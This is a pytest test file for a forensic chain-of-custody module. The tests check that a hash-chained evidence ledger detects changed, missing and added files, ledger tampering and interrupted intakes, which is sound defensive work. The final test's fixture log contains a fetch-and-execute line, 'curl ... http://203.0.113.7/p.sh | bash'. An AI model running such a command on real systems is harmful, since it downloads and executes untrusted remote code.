import json

import pytest

from workbench import custody
from workbench.case import Case
from workbench.errors import CustodyError


@pytest.fixture
def run(tmp_path):
    root = tmp_path / "evidence"
    (root / "models").mkdir(parents=True)
    (root / "actions.log").write_text("[2026-11-19T09:05:12Z] ASSESS: start\n")
    (root / "frozen_deps.txt").write_text("torch==2.2.0\n")
    (root / "models" / "w.bin").write_bytes(bytes(range(256)) * 100)
    out = tmp_path / "out"
    ledger = custody.intake(Case.open(root), out)
    return root, out, ledger


def test_intake_writes_chained_ledger_outside_evidence(run):
    root, out, ledger = run
    lines = [json.loads(x) for x in (out / "custody.jsonl").read_text().splitlines()]
    assert [e["type"] for e in lines] == ["intake", "file", "file", "file", "intake_end"]
    assert lines[0]["prev"] == "0" * 64
    assert all(lines[i]["prev"] == lines[i - 1]["hash"] for i in range(1, len(lines)))
    assert {e["path"] for e in lines if e["type"] == "file"} == {"actions.log", "frozen_deps.txt", "models/w.bin"}
    assert not list(root.rglob("custody.jsonl"))
    assert ledger.head == lines[-1]["hash"]


def test_clean_verify(run):
    _, out, _ = run
    result = custody.verify(out)
    assert result.verified and result.exit_code == 0 and result.files == 3


def test_modified_deleted_added_each_reported(run):
    root, out, _ = run
    (root / "frozen_deps.txt").write_text("torch==2.2.1\n")
    (root / "actions.log").unlink()
    (root / "models" / "extra.pkl").write_bytes(b"\x80\x02.")
    result = custody.verify(out)
    assert result.changed == ["frozen_deps.txt"]
    assert result.missing == ["actions.log"]
    assert result.added == ["models/extra.pkl"]
    assert not result.verified and result.exit_code == 1


def test_same_size_modification_detected(run):
    root, out, _ = run
    data = bytearray((root / "models" / "w.bin").read_bytes())
    data[1000] ^= 1
    (root / "models" / "w.bin").write_bytes(bytes(data))
    assert custody.verify(out).changed == ["models/w.bin"]


def test_tampered_ledger_entry_breaks_chain(run):
    _, out, _ = run
    path = out / "custody.jsonl"
    lines = path.read_text().splitlines()
    entry = json.loads(lines[2])
    entry["sha256"] = "0" * 64  # an attacker rewrites a recorded hash
    lines[2] = json.dumps(entry)
    path.write_text("\n".join(lines) + "\n")
    result = custody.verify(out)
    assert result.exit_code == 3
    assert any("line 3" in b and "altered" in b for b in result.broken_links)


def test_rehashed_entry_still_breaks_the_next_link(run):
    _, out, _ = run
    path = out / "custody.jsonl"
    lines = path.read_text().splitlines()
    entry = json.loads(lines[2])
    entry["sha256"] = "0" * 64
    entry["hash"] = custody.entry_hash(entry)  # consistent entry, but the chain after it no longer links
    lines[2] = json.dumps(entry)
    path.write_text("\n".join(lines) + "\n")
    result = custody.verify(out)
    assert any("line 4" in b and "link" in b for b in result.broken_links)


def test_deleted_ledger_line_detected(run):
    _, out, _ = run
    path = out / "custody.jsonl"
    lines = path.read_text().splitlines()
    del lines[1]
    path.write_text("\n".join(lines) + "\n")
    assert custody.verify(out).exit_code == 3


def test_verify_is_recorded_in_the_ledger(run):
    _, out, _ = run
    custody.verify(out)
    reread, broken = custody.Ledger.read(out / "custody.jsonl")
    assert not broken and reread.entries[-1]["type"] == "verify" and reread.entries[-1]["verified"] is True


def test_refuses_out_dir_inside_evidence_and_existing_ledger(run, tmp_path):
    root, out, _ = run
    with pytest.raises(CustodyError, match="inside the evidence"):
        custody.intake(Case.open(root), root / "out")
    with pytest.raises(CustodyError, match="already exists"):
        custody.intake(Case.open(root), out)
    with pytest.raises(CustodyError, match="no custody ledger"):
        custody.verify(tmp_path / "nowhere")


def _types(out):
    return [json.loads(x)["type"] for x in (out / "custody.jsonl").read_text().splitlines()]


@pytest.fixture
def many(tmp_path):
    root = tmp_path / "evidence"
    root.mkdir()
    for i in range(8):
        (root / f"f{i}.txt").write_text(f"file {i}\n")
    return root


def _stop_after(monkeypatch, n, exc):
    real = custody.iter_hashes

    def hashes(paths, **kwargs):
        for i, item in enumerate(real(paths, **kwargs)):
            if i == n:
                raise exc
            yield item

    monkeypatch.setattr(custody, "iter_hashes", hashes)


def test_interrupted_intake_is_closed_as_incomplete_and_the_chain_holds(many, tmp_path, monkeypatch):
    _stop_after(monkeypatch, 3, KeyboardInterrupt())
    out = tmp_path / "out"
    with pytest.raises(KeyboardInterrupt):
        custody.intake(Case.open(many), out)
    assert _types(out) == ["intake", "file", "file", "file", "intake_incomplete"]
    ledger, broken = custody.Ledger.read(out / "custody.jsonl")
    assert broken == []
    assert ledger.entries[0]["files_expected"] == 8
    assert ledger.entries[-1]["reason"] == "interrupted by Ctrl-C" and ledger.entries[-1]["files"] == 3
    state = ledger.intake_state()
    assert (state.complete, state.expected, state.recorded) == (False, 8, 3)
    monkeypatch.undo()
    result = custody.verify(out)
    assert result.exit_code == 4 and not result.verified
    assert result.added == []  # files the intake never reached are not "added evidence"
    assert result.changed == [] and result.missing == [] and result.broken_links == []
    assert _types(out)[-1] == "intake_incomplete", "a verification was recorded in an incomplete ledger"


def test_failing_intake_says_why(many, tmp_path, monkeypatch):
    _stop_after(monkeypatch, 5, RuntimeError("disk on fire"))
    out = tmp_path / "out"
    with pytest.raises(RuntimeError):
        custody.intake(Case.open(many), out)
    last = json.loads((out / "custody.jsonl").read_text().splitlines()[-1])
    assert last["type"] == "intake_incomplete" and last["reason"] == "error: RuntimeError: disk on fire"
    assert custody.verify(out).exit_code == 4


def test_ledger_of_a_killed_intake_reads_incomplete(run):
    _, out, _ = run
    path = out / "custody.jsonl"
    path.write_text("".join(path.read_text().splitlines(keepends=True)[:-1]))  # no intake_end: killed outright
    result = custody.verify(out)
    assert result.exit_code == 4 and "no closing entry" in result.intake.reason
    assert result.to_dict()["intake"] == {"complete": False, "files_expected": 3, "files_recorded": 3,
                                          "reason": result.intake.reason}  # fmt: skip


def test_broken_chain_wins_over_incomplete(run):
    _, out, _ = run
    path = out / "custody.jsonl"
    lines = path.read_text().splitlines()[:-1]
    entry = json.loads(lines[1])
    entry["size"] = 1
    lines[1] = json.dumps(entry)
    path.write_text("\n".join(lines) + "\n")
    assert custody.verify(out).exit_code == 3


def test_changed_evidence_in_an_incomplete_intake_is_still_listed(many, tmp_path, monkeypatch):
    _stop_after(monkeypatch, 4, KeyboardInterrupt())
    out = tmp_path / "out"
    with pytest.raises(KeyboardInterrupt):
        custody.intake(Case.open(many), out)
    monkeypatch.undo()
    (many / "f1.txt").write_text("changed\n")
    result = custody.verify(out)
    assert result.changed == ["f1.txt"] and result.exit_code == 4


def test_intake_reports_bytes_hashed(tmp_path, monkeypatch):
    from workbench import progress as progress_mod

    monkeypatch.setattr(progress_mod, "BAR_MIN_BYTES", 0)
    root = tmp_path / "evidence"
    root.mkdir()
    (root / "a.bin").write_bytes(b"a" * 3_000_000)
    (root / "b.txt").write_text("b")
    records = []
    custody.intake(Case.open(root), tmp_path / "out", progress=progress_mod.Progress(records.append))
    assert records[-1] == {"task": "custody intake: hashing", "done": 3_000_001, "total": 3_000_001}


def test_a_run_never_reuses_an_incomplete_ledger(many, tmp_path, monkeypatch):
    from workbench.errors import EvidenceError
    from workbench.investigation import Investigation

    _stop_after(monkeypatch, 2, KeyboardInterrupt())
    out = tmp_path / "out"
    with pytest.raises(KeyboardInterrupt):
        custody.intake(Case.open(many), out)
    monkeypatch.undo()
    with pytest.raises(EvidenceError, match=r"intake incomplete \(interrupted by Ctrl-C\): 2 of 8 files"):
        Investigation.open(many, out)


def test_a_name_that_is_not_utf8_is_hashed_by_its_name_on_disk(tmp_path):
    """Opened by the bytes of its name, recorded once as a file (its name shown with U+FFFD), verified intact."""
    import os

    from workbench import custody
    from workbench.case import Case

    case_dir = tmp_path / "case"
    (case_dir / "logs").mkdir(parents=True)
    with open(os.fsencode(case_dir / "logs") + b"/build-\xff.log", "wb") as fh:  # noqa: PTH123 - a bytes name
        fh.write(b"2026-11-14T03:08:01Z curl -sSL http://203.0.113.7/p.sh | bash\n")
    ledger = custody.intake(Case.open(case_dir), tmp_path / "out")
    files = [e for e in ledger.entries if e["type"] == "file"]
    assert [e["path"] for e in files] == ["logs/build-\ufffd.log"] and len(files[0]["sha256"]) == 64
    assert not [e for e in ledger.entries if e["type"] == "skipped"]
    assert [e["type"] for e in ledger.entries if e.get("path") == "logs/build-\ufffd.log"] == ["file", "inventory_note"]
    result = custody.verify(tmp_path / "out")
    assert result.verified and result.changed == result.missing == result.added == []
